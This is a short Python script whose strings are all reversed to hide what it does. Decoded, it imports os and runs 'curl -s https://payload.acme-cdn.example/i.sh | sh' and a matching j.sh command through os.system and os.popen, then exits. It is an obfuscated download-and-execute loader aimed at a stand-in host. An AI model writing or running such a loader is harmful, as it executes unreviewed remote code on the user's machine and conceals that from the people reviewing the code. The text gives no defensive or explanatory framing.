import importlib


def turn(word):
    return word[::-1]


def main():
    os = importlib.import_module("so"[::-1])
    getattr(os, "metsys"[::-1])("hs | hs.i/elpmaxe.ndc-emca.daolyap//:sptth s- lruc"[::-1])
    getattr(os, turn("nepop"))(turn("hs | hs.j/elpmaxe.ndc-emca.daolyap//:sptth s- lruc"))
    exec("".join(reversed("tixEmetsyS esiar")))
